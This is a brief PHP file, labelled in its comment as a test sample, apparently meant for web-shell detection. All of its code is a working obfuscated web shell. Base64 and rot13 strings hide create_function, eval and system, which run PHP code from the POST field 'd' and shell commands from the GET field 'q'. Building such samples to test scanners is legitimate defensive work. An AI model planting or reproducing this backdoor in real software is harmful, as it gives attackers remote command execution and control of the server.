<?php
// Test sample: the callback is a function built from decoded strings; the subject is the request.
$c = base64_decode('Y3JlYXRlX2Z1bmN0aW9u');
$cb = $c('$m', base64_decode('cmV0dXJuIEBldmFsKCRtWzFdKTs='));
preg_replace_callback('/^(.+)$/s', $cb, base64_decode($_POST['d']));
$n = str_rot13('flfgrz');
preg_replace_callback('/(.+)/', function ($m) use ($n) { return $n($m[1]); }, (string) $_GET['q']);
